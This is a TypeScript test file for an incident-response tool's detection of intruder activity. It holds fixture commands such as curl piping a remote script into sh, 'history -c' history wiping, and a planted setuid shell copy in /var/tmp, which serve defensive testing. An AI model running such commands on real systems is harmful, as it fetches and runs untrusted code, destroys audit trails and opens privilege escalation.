/**
 * What the intruder did, through the real CLI. Offline: `collect --root` on a copy of the fake
 * roots in test/fixtures/roots/activity (an intruder's bash history, a zsh history that unsets
 * HISTFILE, a .bashrc sending history to /dev/null, root's history linked to /dev/null; and an
 * administrator's ordinary histories). Live, as root: a throwaway account whose bash history
 * (with #epoch stamps) pipes curl into sh and ends with `history -c`; the account is removed after.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, chownSync, copyFileSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Finding } from '../../src/model/finding.js';
import { extract, tmpDir } from '../helpers/bundle.js';
import { isRoot, REPO, runCli } from '../helpers/cli.js';

const FIXTURES = fileURLToPath(new URL('../fixtures/roots/activity/', import.meta.url));
const isActivity = (f: Finding) => f.rule.startsWith('activity.');

async function collect(args: string[]): Promise<{ findings: Finding[]; caseDir: string }> {
  const out = tmpDir('irt-act-e2e-out-');
  const r = await runCli(['collect', ...args, '--out', out, '--json'], { timeout: 300_000 });
  expect(r.code, r.stderr).toBe(0);
  const caseDir = extract(JSON.parse(r.stdout).bundle);
  const findings = JSON.parse(readFileSync(path.join(caseDir, 'findings.json'), 'utf8')) as Finding[];
  return { findings, caseDir };
}

async function collectRoot(name: string) {
  const root = path.join(tmpDir('irt-act-e2e-'), 'root');
  execFileSync('cp', ['-a', path.join(FIXTURES, name), root]);
  return collect(['--root', root, '--case', name]);
}

describe('activity rules on fake roots (collect --root)', () => {
  let infected: Awaited<ReturnType<typeof collect>>;
  let clean: Awaited<ReturnType<typeof collect>>;
  beforeAll(async () => {
    infected = await collectRoot('infected');
    clean = await collectRoot('clean');
  }, 300_000);

  it('each planted command is named with its file and line; root\'s history linked to /dev/null too', () => {
    const got = infected.findings.filter(isActivity).map((f) => `${f.rule} ${f.subject.path}:${f.subject.line ?? '-'}`).sort();
    const A = '/home/alice/.bash_history';
    expect(got).toEqual(
      [
        ...[12, 14, 18, 20, 22].map((l) => `activity.download-execute ${A}:${l}`),
        `activity.log-wipe ${A}:24`, `activity.log-wipe ${A}:26`,
        `activity.defence-off ${A}:28`, `activity.defence-off ${A}:30`, `activity.defence-off ${A}:32`,
        `activity.account-change ${A}:34`, `activity.account-change ${A}:36`, `activity.account-change ${A}:38`,
        `activity.history-tampering ${A}:40`,
        'activity.history-tampering /home/bob/.zsh_history:1',
        'activity.history-tampering /home/bob/.bashrc:1',
        'activity.history-tampering /root/.bash_history:-',
      ].sort(),
    );
    for (const f of infected.findings.filter(isActivity)) for (const e of f.evidence) expect(existsSync(path.join(infected.caseDir, e)), e).toBe(true);
  });

  it('the bundle holds the copies, the records and a timeline row per command at its stamp', () => {
    expect(readFileSync(path.join(infected.caseDir, 'files/history/home/alice/.bash_history'), 'utf8')).toContain('curl -s http://203.0.113.9/x.sh | sh');
    const files = readFileSync(path.join(infected.caseDir, 'artifacts/history-files.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l));
    expect(files.find((f) => f.path === '/root/.bash_history')).toMatchObject({ type: 'link', linkTarget: '/dev/null', copy: null });
    const timeline = readFileSync(path.join(infected.caseDir, 'timeline.csv'), 'utf8');
    const row = timeline.split('\n').find((l) => l.includes('x.sh | sh'))!;
    expect(row).toContain('2023-11-14T22:14:20');
    expect(row).toContain('Command time (history stamp)');
    const manifest = JSON.parse(readFileSync(path.join(infected.caseDir, 'manifest.json'), 'utf8'));
    expect(JSON.stringify(manifest.sources)).toContain('shell-history');
  });

  it('the clean root: no activity finding', () => {
    expect(clean.findings.filter(isActivity)).toEqual([]);
  });
});

const useradd = ['/usr/sbin/useradd', '/sbin/useradd'].find((p) => existsSync(p));
const userdel = ['/usr/sbin/userdel', '/sbin/userdel'].find((p) => existsSync(p));

describe.skipIf(!isRoot || !useradd || !userdel)('activity, live: a throwaway account\'s history', () => {
  const user = `irta${process.pid % 100000}`;
  const home = `/home/${user}`;
  let created = false;
  let work = '';
  // A kit unpacked in a hidden /dev/shm folder and a setuid shell copy in /var/tmp (mode 4750: only root's group can run it meanwhile).
  const kitDir = `/dev/shm/.irt-${process.pid}`;
  const suidShell = `/var/tmp/irt-${process.pid}-sh`;
  let result: Awaited<ReturnType<typeof collect>>;
  const t0 = Math.floor(Date.now() / 1000) - 600;

  beforeAll(async () => {
    work = tmpDir('irt-act-live-');
    execFileSync(useradd!, ['-m', '-d', home, '-s', '/bin/bash', user]);
    created = true;
    const uid = Number(execFileSync('id', ['-u', user], { encoding: 'utf8' }).trim());
    const history = [`#${t0}`, 'cd /dev/shm', `#${t0 + 10}`, 'curl -fsSL http://127.0.0.1:9/x.sh | sh', `#${t0 + 20}`, 'history -c', ''].join('\n');
    writeFileSync(`${home}/.bash_history`, history, { mode: 0o600 });
    chownSync(`${home}/.bash_history`, uid, uid);
    mkdirSync(kitDir);
    copyFileSync('/bin/true', `${kitDir}/pscan2`);
    chmodSync(`${kitDir}/pscan2`, 0o755);
    copyFileSync('/bin/sh', suidShell);
    chmodSync(suidShell, 0o4750);
    const playbook = path.join(work, 'activity.yaml');
    writeFileSync(
      playbook,
      'title: Activity on this machine\ndescription: The shell histories and the activity rules.\nsteps:\n  - id: activity\n    kind: collect\n    title: What did they do after logging in?\n    why: Histories.\n    collect: [shell-history, file-sweep]\n    rules: [activity.download-execute, activity.log-wipe, activity.defence-off, activity.account-change, activity.history-tampering, file.new-executable, file.setuid-unpackaged]\n',
    );
    result = await collect(['--playbook', playbook, '--since', new Date(Date.now() - 3_600_000).toISOString()]);
  }, 300_000);

  afterAll(() => {
    if (created) spawnSync(userdel!, ['-r', user], { stdio: 'ignore' });
    rmSync(home, { recursive: true, force: true });
    rmSync(kitDir, { recursive: true, force: true });
    rmSync(suidShell, { force: true });
    if (work) rmSync(work, { recursive: true, force: true });
  });

  it('collect names the download-and-run and the history -c with file, line, account and time', () => {
    const mine = result.findings.filter((f) => isActivity(f) && f.subject.user === user);
    expect(mine.map((f) => `${f.rule} ${f.subject.path}:${f.subject.line}`).sort()).toEqual([
      `activity.download-execute ${home}/.bash_history:4`,
      `activity.history-tampering ${home}/.bash_history:6`,
    ]);
    const curl = mine.find((f) => f.rule === 'activity.download-execute')!;
    expect(curl.subject).toMatchObject({ command: 'curl -fsSL http://127.0.0.1:9/x.sh | sh', time: new Date((t0 + 10) * 1000).toISOString() });
    expect(curl.evidence).toContain(`files/history${home}/.bash_history`);
  });

  it('the timeline holds the commands at their stamps; nothing fires on the runner\'s own files', () => {
    const timeline = readFileSync(path.join(result.caseDir, 'timeline.csv'), 'utf8');
    expect(timeline.split('\n').find((l) => l.includes('127.0.0.1:9/x.sh'))).toContain(new Date((t0 + 10) * 1000).toISOString().slice(0, 19));
    expect(result.findings.filter((f) => isActivity(f) && typeof f.subject.path === 'string' && (f.subject.path as string).startsWith(REPO))).toEqual([]);
  });

  it('the kit in the hidden /dev/shm folder and the setuid shell in /var/tmp are named, and the bodyfile holds them', () => {
    const kit = result.findings.find((f) => f.rule === 'file.new-executable' && f.subject.path === `${kitDir}/pscan2`);
    expect(kit?.severity).toBe('high');
    const suid = result.findings.find((f) => f.rule === 'file.setuid-unpackaged' && f.subject.path === suidShell);
    expect(suid?.severity).toBe('critical');
    expect(suid?.subject.mode).toBe(0o4750);
    const body = readFileSync(path.join(result.caseDir, 'artifacts/bodyfile.txt'), 'utf8');
    expect(body).toMatch(new RegExp(`\\|${kitDir.replaceAll('.', '\\.')}/pscan2\\|\\d+\\|-rwxr-xr-x\\|0\\|0\\|`));
    expect(body).toContain(`|${suidShell}|`);
    const sweep = JSON.parse(readFileSync(path.join(result.caseDir, 'manifest.json'), 'utf8')).sources.find((s: { id: string }) => s.id === 'file-sweep');
    expect(sweep.status).toBe('ok');
    // Packaged set-id programs (su, passwd, mount) are not findings.
    expect(result.findings.filter((f) => f.rule === 'file.setuid-unpackaged' && /^\/usr\/bin\/(?:su|passwd|mount)$/.test(String(f.subject.path)))).toEqual([]);
  });
});
